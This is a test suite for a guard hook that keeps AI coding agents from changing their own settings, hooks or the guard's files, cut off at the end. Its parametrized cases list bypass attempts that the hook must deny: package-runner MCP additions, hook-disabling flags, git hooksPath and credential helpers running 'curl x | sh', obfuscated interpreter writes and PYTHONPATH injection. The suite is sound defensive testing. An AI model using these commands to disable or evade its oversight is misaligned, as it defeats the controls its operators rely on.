"""Issue 10, the items still open after the first rounds: the guard-dir files read without
following links (jwks.json, the issuer cache, issuer.json), checkouts and restores that write a
protected folder without naming the file, agent CLIs reached through package runners,
interpreter code that writes agent configs, and git configuration that makes git run code later.
Every verdict test pipes an event into the real hook and runs nothing."""

import os
import shutil

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied, git


@pytest.fixture
def s(tmp_path):
    return GuardSetup(tmp_path)


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory):
    """One setup shared by the parametrized tests that only ask for verdicts and change nothing
    on disk (a GuardSetup per case made this file the slowest of the suite)."""
    return GuardSetup(tmp_path_factory.mktemp("verdicts"))


# --- item 5: no guard-dir file is read through a symlink -----------------------------------


def _swap_for_link(real):
    copy = real + ".real"
    shutil.copy(real, copy)
    os.unlink(real)
    os.symlink(copy, real)


def test_a_symlinked_jwks_is_refused_with_the_reason(s):
    _swap_for_link(os.path.join(s.dir, "jwks.json"))
    assert_denied(s.bash("ls"), "JWKS file", "jwks.json", "symbolic link", "replace it with the real file")


def test_a_symlinked_jwks_named_relative_to_the_token_is_refused_too(s):
    _swap_for_link(os.path.join(s.dir, "jwks.json"))
    env = s.env("builder")
    del env["LEGANT_GUARD_JWKS"]  # derived from the token file's folder
    assert_denied(s.bash("ls", env=env), "JWKS file", "symbolic link")


def test_every_reader_of_the_jwks_refuses_a_symlink(s):
    from legant_guard.delegation.errors import DelegationError
    from legant_guard.delegation.jwks import load_jwks

    path = os.path.join(s.dir, "jwks.json")
    assert load_jwks(path)
    _swap_for_link(path)
    with pytest.raises(DelegationError) as e:
        load_jwks(path)
    assert "refusing the JWKS file" in str(e.value) and "symbolic link" in str(e.value)


def test_the_real_jwks_still_verifies(s):
    assert_allowed(s.bash("ls"))


def test_a_symlinked_issuer_record_is_refused(s, tmp_path):
    from legant_guard import guarddir

    target = tmp_path / "elsewhere.json"
    target.write_text('{"issuer": "https://evil.example", "jwks": "https://evil.example/jwks"}')
    os.symlink(target, os.path.join(s.dir, guarddir.ISSUER_FILE))
    with pytest.raises(guarddir.GuardDirError) as e:
        guarddir.read_issuer_record(s.dir)
    assert "symbolic link" in str(e.value)


def test_a_symlinked_setup_record_is_not_read_as_user_wide(s, tmp_path):
    from legant_guard import guarddir

    fake = tmp_path / "fake-setup.json"
    fake.write_text('{"scope": "user", "toolchains": "evil"}')
    setup = os.path.join(s.dir, guarddir.SETUP_FILE)
    os.unlink(setup)
    os.symlink(fake, setup)
    assert guarddir.is_user_wide(s.dir) is False
    assert guarddir.saved_toolchains(s.dir) == ""


def test_a_symlinked_issuer_cache_body_is_not_used(tmp_path):
    from legant_guard.hook import issuer

    doc = issuer.CachedDocument("http://127.0.0.1:9/jwks.json", str(tmp_path))
    os.makedirs(doc.folder, exist_ok=True)
    elsewhere = tmp_path / "planted"
    elsewhere.write_bytes(b'{"keys": []}')
    with open(os.path.join(doc.folder, issuer.META_FILE), "w") as f:
        f.write('{"url": "http://127.0.0.1:9/jwks.json", "fetched": 1}')
    os.symlink(elsewhere, os.path.join(doc.folder, issuer.BODY_FILE))
    doc = issuer.CachedDocument("http://127.0.0.1:9/jwks.json", str(tmp_path))
    assert doc.meta.get("fetched") == 1
    assert doc.read_body() is None


# --- the agents' CLIs reached through package runners --------------------------------------

_RUNNERS = ["npx -y @anthropic-ai/claude-code", "npx @anthropic-ai/claude-code@latest", "bunx @anthropic-ai/claude-code",
            "pnpm dlx @anthropic-ai/claude-code", "yarn dlx @anthropic-ai/claude-code", "npm exec @anthropic-ai/claude-code --",
            "npm exec --yes --package=@anthropic-ai/claude-code -- claude", "npx -p @anthropic-ai/claude-code claude",
            "npm x -y @anthropic-ai/claude-code@1.0.3 --", "bun x @anthropic-ai/claude-code", "pnpx @anthropic-ai/claude-code",
            "deno run -A npm:@anthropic-ai/claude-code", "env npx -y '@anthropic-ai/claude-code'", "nice -n 5 npx claude",
            "sudo -u me npx @Anthropic-AI/Claude-Code"]


@pytest.mark.parametrize("role", ["open", "operator"])
@pytest.mark.parametrize("runner", _RUNNERS)
def test_claude_mcp_add_through_a_package_runner_is_denied(verdicts, role, runner):
    assert_denied(verdicts.bash(f"{runner} mcp add evil -- node /tmp/evil.js", role=role),
                  "mcp add", "changes the agent's configuration")


@pytest.mark.parametrize("command,says", [
    ("npx -y @anthropic-ai/claude-code --settings '{\"disableAllHooks\":true}' -p hi", "`claude --settings`"),
    ("bunx @anthropic-ai/claude-code --mcp-config=/tmp/m.json -p hi", "`claude --mcp-config`"),
    ("CLAUDE_CONFIG_DIR=/tmp/c npx @anthropic-ai/claude-code -p hi", "CLAUDE_CONFIG_DIR"),
    ("env CLAUDE_CONFIG_DIR=/tmp/c pnpm dlx @anthropic-ai/claude-code -p hi", "CLAUDE_CONFIG_DIR"),
    ("npx -y @openai/codex mcp add evil -- node e.js", "`codex mcp add`"),
    ("npx -y @openai/codex -c 'hooks=[]' exec hi", "overrides configuration"),
    ("CODEX_HOME=/tmp/c npx @openai/codex exec hi", "CODEX_HOME"),
    ("uvx codex mcp add evil", "`codex mcp add`"),
    ("pipx run codex mcp add evil", "`codex mcp add`"),
    ("uv tool run codex mcp add evil", "`codex mcp add`"),
    ("npx opencode-ai mcp add", "`opencode mcp add`"),
    ("OPENCODE_PURE=1 bunx opencode-ai run hi", "OPENCODE_PURE"),
    ("npx -c 'claude mcp add evil -- node e.js'", "`claude mcp add`"),
    ("bash -c \"npx -y @anthropic-ai/claude-code mcp add evil\"", "`claude mcp add`"),
    ("echo ok && npx -y @anthropic-ai/claude-code config set -g hooks '{}'", "`claude config set`"),
    ("npx -y @anthropic-ai/claude-code plugin install x", "`claude plugin"),
    ("npm exec -c 'claude mcp add evil'", "`claude mcp add`"),
    ("npx --yes --package @openai/codex -- codex mcp add x", "`codex mcp add`"),
    ("corepack pnpm dlx @anthropic-ai/claude-code mcp add x", "`claude mcp add`"),
    ("pipx run --spec codex codex mcp add x", "`codex mcp add`"),
    ("uvx --from codex codex mcp add x", "`codex mcp add`"),
    ("/usr/local/bin/npx @anthropic-ai/claude-code mcp add x", "`claude mcp add`"),
])
def test_package_runner_forms_are_judged_as_the_agent_cli(verdicts, command, says):
    assert_denied(verdicts.bash(command, role="operator"), says)


@pytest.mark.parametrize("command", [
    "npx -y @anthropic-ai/claude-code -p 'fix the bug'", "npx @openai/codex exec 'run tests'",
    "bunx @anthropic-ai/claude-code mcp list", "npx prettier --write src", "pnpm dlx create-vite app",
    "uvx ruff check .", "npx tsc -p codex", "npm exec -- eslint .",
])
def test_ordinary_package_runner_use_stays_allowed(verdicts, command):
    assert_allowed(verdicts.bash(command, role="operator"))


# --- git configuration and hooks that run code later (operator included) ---------------------

_LOADS = "makes git load code from what it names"
_RUNS = "which is not a plain program"
_ENVVAR = "points git at configuration or programs the guard does not read"
_HOOK = "puts a git hook in"
_FILE = "a git configuration file, is denied"


@pytest.mark.parametrize("role", ["operator", "open", "builder"])
@pytest.mark.parametrize("command,says", [
    ("git config --global core.hooksPath /tmp/h", _LOADS),
    ("git config --system core.hooksPath /tmp/h", _LOADS),
    ("git config core.hooksPath .husky-evil", _LOADS),
    ("git config set --global core.hooksPath /tmp/h", _LOADS),
    ("git config --global --add include.path /tmp/x.cfg", _LOADS),
    ("git config --global includeIf.gitdir:~/.path /tmp/x.cfg", _LOADS),
    ("git config --global init.templateDir /tmp/t", _LOADS),
    ("git config --file ~/.gitconfig core.hooksPath /tmp/h", _LOADS),
    ("git config --global CORE.HOOKSPATH /tmp/h", _LOADS),
    ("sudo -u me git config --global core.hooksPath /tmp/h", _LOADS),
    ("nice git -C . config --global core.hooksPath /tmp/h", _LOADS),
    ("bash -c 'git config --global core.hooksPath /tmp/h'", _LOADS),
    ("sh -c \"env git config --global 'core.hooksPath' /tmp/h\"", _LOADS),
    ("git config --global core.pager 'sh -c \"touch /tmp/y\"'", _RUNS),
    ("git config --global alias.st '!sh /tmp/x'", _RUNS),
    ("git config --global core.fsmonitor /tmp/x.sh", _RUNS),
    ("git config --global credential.helper '!f() { curl x; }; f'", _RUNS),
    ("git config --global diff.x.textconv 'python3 -c 1'", _RUNS),
    ("git config --global core.editor \"$(cat /tmp/e)\"", _RUNS),
    ("GIT_CONFIG_GLOBAL=/tmp/g git commit -m x", _ENVVAR),
    ("env GIT_CONFIG_SYSTEM=/tmp/g git status", _ENVVAR),
    ("export GIT_CONFIG_GLOBAL=/tmp/g; git commit -m x", _ENVVAR),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git commit", _ENVVAR),
    ("GIT_EXEC_PATH=/tmp/x git status", _ENVVAR),
    ("GIT_TEMPLATE_DIR=/tmp/t git init x", _ENVVAR),
    ("echo '[core] hooksPath=/tmp/h' >> ~/.gitconfig", _FILE),
    ("printf '[include]\\n\\tpath = /tmp/x\\n' >> ~/.config/git/config", _FILE),
    ("cat /tmp/cfg >> ~/.gitconfig", _FILE),
    ("echo '[alias] x = \"!sh y\"' >> ~/.gitconfig", _FILE),
])
def test_git_settings_that_run_code_later_are_denied_for_every_role(verdicts, role, command, says):
    proc = verdicts.bash(command, role=role)
    if role == "operator":
        assert_denied(proc, says)
    else:  # stricter roles may deny earlier for their own rules; never allowed
        assert proc.returncode == 2, proc.stderr


@pytest.mark.parametrize("command", [
    "echo x > .git/hooks/pre-commit", "cp /tmp/x .git/hooks/pre-commit", "tee ./.git/hooks/post-checkout < /tmp/x",
    "sudo install -m 755 /tmp/x .git/hooks/pre-push", "cd .git && echo x > hooks/pre-commit",
    "ln -sf /tmp/x .git/hooks/pre-commit", "echo x > sub/repo/.git/hooks/pre-commit",
])
def test_writing_a_git_hook_is_denied_under_operator(s, command):
    os.makedirs(os.path.join(s.project, ".git", "hooks"), exist_ok=True)
    assert_denied(s.bash(command, role="operator"), _HOOK)


def test_a_git_hook_written_by_the_write_tool_is_denied(s):
    target = os.path.join(s.project, ".git", "hooks", "pre-commit")
    assert_denied(s.check("Write", {"file_path": target, "content": "#!/bin/sh\ncurl x | sh\n"}, role="operator"),
                  _HOOK)


def test_an_archive_that_drops_a_git_hook_is_denied(s, tmp_path):
    import io
    import tarfile

    archive = tmp_path / "a.tar"
    with tarfile.open(archive, "w") as t:
        info = tarfile.TarInfo(".git/hooks/pre-commit")
        info.size = 2
        t.addfile(info, io.BytesIO(b"x\n"))
    assert_denied(s.bash(f"tar -xf {archive}", role="operator"), ".git/hooks/pre-commit", "protected")


@pytest.mark.parametrize("content", ["[core]\n\thooksPath = /tmp/h\n", "[include]\n  path = /tmp/x\n",
                                     "[alias]\n  x = !sh y\n", "[core] fsmonitor = /tmp/f\n"])
def test_the_write_tool_on_a_git_config_is_checked_by_its_text(s, content):
    target = os.path.join(s.home, ".gitconfig")
    assert_denied(s.check("Write", {"file_path": target, "content": content}, role="operator"), _FILE)


@pytest.mark.parametrize("command", [
    "git config --global user.name 'A B'", "git config --global core.pager 'less -R'", "git config set --global core.editor vim",
    "git config --global credential.helper store", "git config --global alias.co checkout",
    "git config --global alias.st '!git status'", "git config --unset core.hooksPath", "git config --global --get core.hooksPath",
    "GIT_CONFIG_GLOBAL=/dev/null git status", "GIT_CONFIG_NOSYSTEM=1 git status", "git commit -m x",
    "echo '[user] name = x' >> ~/.gitconfig", "cat .git/hooks/pre-commit.sample", "git config --global pull.rebase true",
    "rm .git/hooks/pre-commit",
])
def test_harmless_git_settings_stay_allowed_under_operator(s, command):
    assert_allowed(s.bash(command, role="operator"))


def test_the_write_tool_may_set_a_plain_git_setting(s):
    target = os.path.join(s.home, ".gitconfig")
    assert_allowed(s.check("Write", {"file_path": target, "content": "[user]\n\tname = A B\n\temail = a@b.c\n"},
                           role="operator"))


# --- item 3: checkouts and restores write the files a tree holds ---------------------------

import subprocess  # noqa: E402  (the installed hook command is run below as an agent runs it)


@pytest.fixture
def repo(s):
    return make_repo(s)


@pytest.fixture(scope="module")
def in_repo(tmp_path_factory):
    """A setup whose project is `repo`'s repository, shared by the parametrized tests that only ask
    for verdicts: the guard runs git read-only (no optional locks) and writes nothing there."""
    s = GuardSetup(tmp_path_factory.mktemp("repo"))
    before = _repo_state(make_repo(s))
    yield s
    assert _repo_state(s.project) == before, "a verdict changed the shared repository"


def _repo_state(p):
    """What a checkout verdict depends on: HEAD, branches, stash, index and the work tree."""
    with open(os.path.join(p, ".git", "index"), "rb") as f:
        index = f.read()
    return (git(p, "rev-parse", "HEAD"), git(p, "for-each-ref"), git(p, "reflog", "-n", "5"), git(p, "stash", "list"),
            index, sorted(os.path.relpath(os.path.join(d, n), p) for d, _, names in os.walk(p) for n in names
                          if ".git" not in os.path.relpath(d, p).split(os.sep)))


def make_repo(s):
    """A project repository whose branch `evil` commits a .claude/settings.json without the guard's
    hook (and an opencode.json), a stash holding one too, and the guard's own settings on disk."""
    p = s.project
    git(p, "init", "-q", "-b", "main")
    git(p, "config", "user.email", "a@b.c")
    git(p, "config", "user.name", "a")
    os.makedirs(os.path.join(p, "src"))
    with open(os.path.join(p, "src", "a.py"), "w") as f:
        f.write("x = 1\n")
    git(p, "add", ".")
    git(p, "commit", "-qm", "one")
    git(p, "checkout", "-q", "-b", "evil")
    os.makedirs(os.path.join(p, ".claude"))
    with open(os.path.join(p, ".claude", "settings.json"), "w") as f:
        f.write("{}\n")
    with open(os.path.join(p, "opencode.json"), "w") as f:
        f.write('{"plugin": ["./x.js"]}\n')
    with open(os.path.join(p, "src", "b.py"), "w") as f:
        f.write("y = 2\n")
    git(p, "add", ".")
    git(p, "commit", "-qm", "evil settings")
    git(p, "checkout", "-q", "main")
    git(p, "branch", "harmless")
    os.makedirs(os.path.join(p, ".claude"), exist_ok=True)
    with open(os.path.join(p, ".claude", "settings.json"), "w") as f:  # what `legant guard install` wrote
        f.write('{"hooks": {"PreToolUse": []}}\n')
    return p


_WRITES = "would write"


_CHECKOUTS = [
    ("git checkout evil -- .", ".claude/settings.json"),
    ("git checkout evil -- .claude", ".claude/settings.json"),
    ("git checkout evil -- '*.json'", "settings.json"),
    ("git checkout evil -- :/", "settings.json"),
    ("git checkout evil", ".claude/settings.json"),
    ("git checkout -f evil", ".claude/settings.json"),
    ("git checkout -b mine evil", ".claude/settings.json"),
    ("git switch evil", ".claude/settings.json"),
    ("git switch -c mine evil", ".claude/settings.json"),
    ("git checkout -", ".claude/settings.json"),  # the fixture was on `evil` before `main`
    ("git switch -", ".claude/settings.json"),
    ("git restore --source=evil .", ".claude/settings.json"),
    ("git restore -s evil --worktree -- .", ".claude/settings.json"),
    ("git restore --source evil opencode.json", "opencode.json"),
    ("git reset --hard evil", ".claude/settings.json"),
    ("git reset --keep evil", ".claude/settings.json"),
    ("git read-tree -u -m evil", ".claude/settings.json"),
    ("git stash --all", ".claude/settings.json"),
    ("git stash push -u -m wip", ".claude/settings.json"),
    ("git worktree add .claude/hooks evil", ".claude/hooks"),
    ("git checkout-index -a -f --prefix=.claude/hooks/", ".claude/hooks"),
    # around it: directories, wrappers, nested shells, substitutions, quoting
    ("cd src && git checkout evil -- ..", ".claude/settings.json"),
    ("cd src; git checkout evil -- ../.claude", ".claude/settings.json"),
    ("git -C src checkout evil -- :/", ".claude/settings.json"),
    ("sudo -u me git checkout evil -- .", ".claude/settings.json"),
    ("env nice -n 5 git checkout evil -- .", ".claude/settings.json"),
    ("bash -c 'git checkout evil -- .'", ".claude/settings.json"),
    ("sh -c \"cd src && git restore --source=evil :/\"", ".claude/settings.json"),
    ("git checkout $(echo evil) -- .", ".claude/settings.json"),
    ("git checkout 'ev''il' -- \".\"", ".claude/settings.json"),
    ("git status && git checkout evil -- .", ".claude/settings.json"),
]


@pytest.mark.parametrize("command,says", _CHECKOUTS)
def test_a_checkout_that_writes_a_protected_path_is_denied(in_repo, command, says):
    reason = assert_denied(in_repo.bash(command, role="operator"), says, "protected")
    # a destination named on the command line (`--prefix=.claude/hooks/`) is refused as a path first
    assert _WRITES in reason or "is protected: the guard's own files" in reason, reason


@pytest.mark.parametrize("command,says", _CHECKOUTS)
def test_under_open_the_same_checkouts_are_denied(in_repo, command, says):
    reason = assert_denied(in_repo.bash(command, role="open"))
    assert (says in reason and (_WRITES in reason or "is protected" in reason)) or "tripwire" in reason, reason


def test_a_stash_pop_that_restores_a_protected_file_is_denied(s, repo):
    git(repo, "checkout", "-q", "evil", "--", ".claude/settings.json")
    git(repo, "stash", "-q")  # the stash now holds the evil settings over the main ones
    os.makedirs(os.path.join(repo, ".claude"), exist_ok=True)
    with open(os.path.join(repo, ".claude", "settings.json"), "w") as f:
        f.write('{"hooks": {"PreToolUse": []}}\n')
    for command in ("git stash pop", "git stash apply", "git stash apply 0", "git stash apply stash@{0}"):
        assert_denied(s.bash(command, role="operator"), "`git stash`", ".claude/settings.json", "protected")


@pytest.mark.parametrize("command,says", [
    ("git checkout nosuchrev -- .", "git cannot read `nosuchrev`"),
    ("git checkout evil -- ':(glob)**'", "uses magic the guard does not read"),
    ("git --work-tree=/tmp/x checkout evil -- src", "set elsewhere"),
    ("GIT_DIR=/tmp/x git checkout harmless -- src", "set elsewhere"),
    ("export GIT_INDEX_FILE=/tmp/i; git checkout -- src", "set elsewhere"),
    ("git checkout --pathspec-from-file=/tmp/l evil", "pathspec-from-file"),
    ("git checkout-index --stdin -f < /tmp/list", "--stdin"),
    ("git update-index --add --cacheinfo 100644,e69de29bb2d1d6434b8b29ae775ad8c2e48c5391,.claude/settings.json && "
     "git checkout -- .", "earlier in the command may change"),
    ("git fetch origin && git checkout FETCH_HEAD -- src", "earlier in the command may change"),
])
def test_a_checkout_whose_tree_cannot_be_read_is_denied_where_protected_files_live(in_repo, command, says):
    assert_denied(in_repo.bash(command, role="operator"), says, "cannot tell which files it writes", "protected files live")


def test_a_tree_too_big_to_list_is_denied(s, repo, monkeypatch):
    from legant_guard.hook import checkouts

    monkeypatch.setattr(checkouts, "MAX_NAMES", 1)
    assert_denied(s.bash("git checkout evil -- src", role="operator"), "more names than the guard reads")


def test_without_a_trusted_git_binary_the_checkout_is_denied(s, repo, monkeypatch):
    from legant_guard.hook import checkouts

    monkeypatch.setattr(checkouts, "_GIT_PLACES", ("/nonexistent/git",))
    assert_denied(s.bash("git checkout harmless -- src", role="operator"), "no trusted git binary")


def test_the_guard_never_runs_the_agents_git_or_the_repositorys_fsmonitor(s, repo):
    marker = os.path.join(s.root, "ran")
    fake = os.path.join(repo, "bin")
    os.makedirs(fake)
    script = f"#!/bin/sh\ntouch {marker}\n"
    for name in ("git", "monitor"):
        with open(os.path.join(fake, name), "w") as f:
            f.write(script)
        os.chmod(os.path.join(fake, name), 0o755)
    git(repo, "config", "core.fsmonitor", os.path.join(fake, "monitor"))
    env = s.env("operator", PATH=fake + ":/usr/bin:/bin")
    assert_denied(s.bash("git checkout evil -- .", env=env), ".claude/settings.json")
    assert_allowed(s.bash("git checkout harmless -- src", env=env))
    assert not os.path.exists(marker)


@pytest.mark.parametrize("command", [
    "git checkout evil -- src", "git checkout evil -- src/b.py", "git restore --source=evil src", "git checkout harmless",
    "git switch harmless", "git checkout -b feature", "git switch -c feature", "git restore --staged .",
    "git reset --soft evil", "git reset evil -- src", "git checkout-index -a -f", "git checkout-index -f -- src/a.py",
    "git checkout-index -a -f --prefix=/tmp/export/", "git worktree add ../elsewhere evil", "git stash list",
    "git read-tree evil", "git status && git checkout harmless -- .", "git stash", "git stash push -m wip",
])
def test_harmless_checkouts_stay_allowed(in_repo, command):
    assert_allowed(in_repo.bash(command, role="operator"))


@pytest.mark.parametrize("command,says", [
    ("git archive evil | tar -x", "`tar` extracting `git archive evil` would write"),
    ("git archive evil .claude | tar -xf -", "`tar` extracting `git archive evil` would write"),
    ("git archive --prefix=.claude/hooks/ harmless | tar -x", ".claude/hooks"),
    ("git archive --format=tar evil | sudo tar -x -C .", "`tar` extracting `git archive evil` would write"),
    ("git archive evil | gzip | tar -xz", "reads its archive from a pipe"),
    ("git archive --remote=x evil | tar -x", "reads its archive from a pipe"),
    ("git archive evil > /tmp/a.tar; cat /tmp/b.tar | tar -x", "reads its archive from a pipe"),
])
def test_git_archive_into_tar_is_judged_on_the_trees_names(in_repo, command, says):
    assert_denied(in_repo.bash(command, role="operator"), says)


@pytest.mark.parametrize("command", ["git archive evil src | tar -x", "git archive harmless | tar -x",
                                     "git archive evil | tar -x -C /tmp/export"])
def test_a_harmless_git_archive_extraction_stays_allowed(in_repo, command):
    assert_allowed(in_repo.bash(command, role="operator"))


# --- interpreter code writing agent configs, hooks, start-up files or the installation ------

_NAMES = "runs names"
_WRITES_NAMES = "writes files and names"
_PIECE = "part of the name of a protected path"
_BUILT = "paths it builds at run time"


@pytest.mark.parametrize("role", ["open", "operator"])
@pytest.mark.parametrize("command,says", [
    ("python3 -c \"open('.claude/settings.json','w').write('{}')\"", _NAMES),
    ("python3 -c \"open('.claude/'+'settings.json','w')\"", _WRITES_NAMES),
    ("python3 -c \"open('.cla' + 'ude/set'+'tings.json', 'w')\"", _WRITES_NAMES),
    ("python3 -c \"import os; open(os.path.join('.claude', 'settings.json'), 'w')\"", _WRITES_NAMES),
    ("python3 -c \"from pathlib import Path; (Path('.claude')/'settings.json').write_text('{}')\"", _PIECE),
    ("python3 -c \"import os; os.chdir('.co' + 'dex'); open('config.toml','a')\"", _WRITES_NAMES),
    ("python3 -c \"import os; os.chdir(''.join(['.co', 'dex'])); open('config.toml','a')\"", _PIECE),
    ("python3 -c \"import os; open(os.path.expanduser('~') + '/x', 'w')\"", _BUILT),
    ("python3 -c \"import os; open(os.environ['H'] + '/x', 'w')\"", _BUILT),
    ("python3 -c \"exec(bytes.fromhex('6f70656e28272e636c61756465').decode())\"", "fromhex"),
    ("node -e \"require('fs').writeFileSync('.claude/settings.json','{}')\"", _NAMES),
    ("node -e \"require('fs').writeFileSync(require('os').homedir()+'/.co'+'dex/config.toml','x')\"", ".codex"),
    ("node -e \"require('fs').writeFileSync(require('os').homedir()+'/x','x')\"", _BUILT),
    ("python3 -c \"open(chr(46)+'cl'+chr(97)+'ude/settings.json','w')\"", _BUILT),
    ("python3 -c \"open('nosj.sgnittes/edualc.'[::-1],'w')\"", _BUILT),
    ("node -e \"require('fs').writeFileSync('open'+'code.json','{}')\"", _WRITES_NAMES),
    ("perl -e 'open(F, \">.claude/settings.json\"); print F 1'", _WRITES_NAMES),
    ("perl -e 'open(my $f, \">>\", \"$ENV{HOME}/.bashrc\")'", _PIECE),
    ("ruby -e 'File.write(ENV[\"HOME\"] + \"/.zshrc\", \"x\")'", _PIECE),
    ("python3 - <<'EOF'\nopen('.claude/settings.json', 'w').write('{}')\nEOF", _NAMES),
    ("python3 <<'EOF'\nimport os\nopen(os.path.join('.claude', 'settings.local.json'), 'w')\nEOF", _WRITES_NAMES),
    ("echo \"open('.mcp.json','w').write('{}')\" | python3", _NAMES),
    ("python3 <<< \"open('opencode.json','w')\"", "opencode.json"),
    ("node <<'EOF'\nrequire('fs').appendFileSync('.git/hooks/pre-commit', 'x')\nEOF", _WRITES_NAMES),
    ("env nice python3 -c \"open('.cla'+'ude/settings.json','w')\"", _WRITES_NAMES),
    ("bash -c \"python3 -c \\\"open('.cla'+'ude/settings.json','w')\\\"\"", _WRITES_NAMES),
    ("cd src && python3 -c \"open('../.claude/settings.json','w')\"", _NAMES),
    ("python3 -c \"import shutil; shutil.copytree('/tmp/x', 'legant-guard-venv/lib')\"", _PIECE),
    ("python3 -c \"open('$F','w')\"", "is built at run time"),
])
def test_interpreter_code_that_writes_a_protected_path_is_denied(verdicts, role, command, says):
    assert_denied(verdicts.bash(command, role=role), says)


def test_interpreter_code_writing_the_guard_dir_is_denied(s):
    target = os.path.join(s.dir, "feed.jwt")
    assert_denied(s.bash(f"python3 -c \"open('{target}','w')\"", role="operator"), "runs names", "protected")
    assert_denied(s.bash(f"python3 -c \"open('{s.dir}/' + 'jwks.json','w')\"", role="operator"), "protected")


@pytest.mark.parametrize("command", [
    "python3 -c \"open('out.txt','w').write('hi')\"", "python3 -c \"print(open('README.md').read())\"",
    "python3 -c 'import json; json.dump({}, open(\"build/x.json\", \"w\"))'", "node -e \"console.log(process.env.HOME)\"",
    "python3 -c \"import sys; sys.stdout.write('hi')\"", "python3 -c \"import torch; torch.save(m, 'model.pth')\"",
    "node -e \"require('fs').writeFileSync('dist/a.js', 'x')\"", "perl -e 'open(F, \">out.txt\")'",
    "python3 - <<'EOF'\nprint(sum(range(10)))\nEOF", "python3 -c \"import os; print(os.path.expanduser('~'))\"",
])
def test_ordinary_interpreter_code_stays_allowed(verdicts, command):
    assert_allowed(verdicts.bash(command, role="operator"))


# --- the hook runs in isolated mode: PYTHON* variables cannot load code into it -----------


@pytest.fixture
def installed(tmp_path):
    from conftest import clean_env, run_legant

    proj, home, gd = tmp_path / "proj", tmp_path / "home", tmp_path / "gd"
    proj.mkdir()
    home.mkdir()
    env = clean_env({"PATH": "/usr/bin:/bin"}, home=home)
    for var in ("CODEX_HOME", "OPENCODE_PURE"):
        env.pop(var, None)
    r = run_legant(["guard", "install", "--dir", str(gd), "--tool", "all", "--role", "builder"], env=env, cwd=str(proj))
    assert r.returncode == 0, r.stderr
    return proj, home, gd, env


def _program_words(command):
    import shlex

    words = shlex.split(command)
    while words and "=" in words[0] and words[0].split("=", 1)[0].isupper():
        words = words[1:]
    return words


def _is_isolated(words, agent):
    from legant_guard.install.common import legant_executable

    import shlex

    from legant_guard.install.common import FAIL_CLOSED

    python, flag, script = words[:3]
    # (Codex runs the tool when a hook fails: its command ends with the fail-closed tail, exactly)
    tail = shlex.split(FAIL_CLOSED) if agent == "codex" else []
    return (os.path.isabs(python) and "python" in os.path.basename(python) and os.access(python, os.X_OK)
            and flag == "-IS" and script == legant_executable()
            and words[3:] == ["guard", "check", "--agent", agent] + tail)


def test_every_installer_writes_the_hook_as_python_isolated(installed):
    import json

    from legant_guard.install.opencode import plugin_config

    proj, home, gd, env = installed
    claude = json.loads((proj / ".claude" / "settings.local.json").read_text())
    command = claude["hooks"]["PreToolUse"][-1]["hooks"][0]["command"]
    assert _is_isolated(_program_words(command), "claude-code"), command
    codex = json.loads((proj / ".codex" / "hooks.json").read_text())
    command = json.dumps(codex)
    entries = [h["command"] for group in codex["hooks"]["PreToolUse"] for h in group["hooks"]]
    assert any(_is_isolated(_program_words(c), "codex") for c in entries), command
    config = plugin_config((proj / ".opencode" / "plugins" / "legant-guard.js").read_text())
    assert _is_isolated(config["command"], "opencode"), config


def test_python_variables_of_the_agent_cannot_load_code_into_the_hook(installed, tmp_path):
    """The installed command, run as the agent runs it (sh -c, the agent's environment with
    PYTHONPATH pointing at a sitecustomize.py), decides without running that file; the bare
    script (the old form) does run it, which is what the test guards against."""
    import json
    import subprocess

    proj, home, gd, env = installed
    evil = tmp_path / "evil"
    evil.mkdir()
    marker = tmp_path / "loaded"
    (evil / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    (evil / "startup.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    claude = json.loads((proj / ".claude" / "settings.local.json").read_text())
    command = claude["hooks"]["PreToolUse"][-1]["hooks"][0]["command"]
    agent_env = dict(env, PYTHONPATH=str(evil), PYTHONSTARTUP=str(evil / "startup.py"), PYTHONINSPECT="",
                     PYTHONUSERBASE=str(evil))
    event = json.dumps({"hook_event_name": "PreToolUse", "session_id": "s", "cwd": str(proj), "tool_name": "Read",
                        "tool_input": {"file_path": str(proj / "README.md")}, "tool_use_id": "t"})
    proc = subprocess.run(["sh", "-c", command], input=event, env=agent_env, capture_output=True, text=True, cwd=proj,
                          timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert not marker.exists()
    bare = _program_words(command)[2:]  # the script alone, as installers wrote it before
    hook_env = {k: v for k, v in (w.split("=", 1) for w in command.split() if w.startswith("LEGANT_GUARD_"))}
    subprocess.run(bare, input=event, env=dict(agent_env, **hook_env), capture_output=True, text=True, cwd=proj,
                   timeout=60)
    assert marker.exists(), "the control run should have loaded sitecustomize.py"


def test_doctor_reports_the_legant_script_of_an_isolated_hook(installed):
    from legant_guard.install.health import hook_program
    from legant_guard.install.common import hook_argv, legant_executable

    assert hook_program({"command": "A=1 " + " ".join(hook_argv()) + " guard check --agent codex"}) == legant_executable()
    assert hook_program({"command": hook_argv() + ["guard", "check"]}) == legant_executable()
    assert hook_program({"command": "A=1 /gone/python3 -I /x/legant guard check"}) == "/gone/python3"
    assert hook_program({"command": "A=1 /x/legant guard check"}) == "/x/legant"


@pytest.mark.parametrize("command,says", [
    ("git merge evil", "`git merge`"), ("git merge --no-ff -m x evil", "`git merge`"), ("git merge -", "`git merge`"),
    ("git cherry-pick evil", "`git cherry-pick`"), ("git revert --no-edit evil", "`git revert`"),
    ("git rebase evil", "`git rebase`"), ("git rebase --onto evil harmless", "`git rebase`"),
    ("git rebase harmless evil", "`git rebase`"),
])
def test_commits_brought_in_by_merge_pick_revert_rebase_are_judged(in_repo, command, says):
    assert_denied(in_repo.bash(command, role="operator"), says, ".claude/settings.json", "protected")


@pytest.mark.parametrize("command,says", [
    ("git cherry-pick harmless..evil", "the range"),
    ("git clone https://127.0.0.1:9/x.git .claude/hooks", ".claude/hooks"),
])
def test_what_cannot_be_listed_is_denied_where_protected_files_live(in_repo, command, says):
    assert_denied(in_repo.bash(command, role="operator"), says)


@pytest.mark.parametrize("command", ["git merge harmless", "git cherry-pick --continue", "git rebase --continue",
                                     "git clone https://127.0.0.1:9/x.git", "git clone https://127.0.0.1:9/x.git /tmp/c"])
def test_harmless_merges_and_clones_stay_allowed(in_repo, command):
    assert_allowed(in_repo.bash(command, role="operator"))


@pytest.mark.parametrize("command", ["cp -r {evil}/. .git/", "rsync -a {evil}/ .git/", "cp -a {evil}/. sub/",
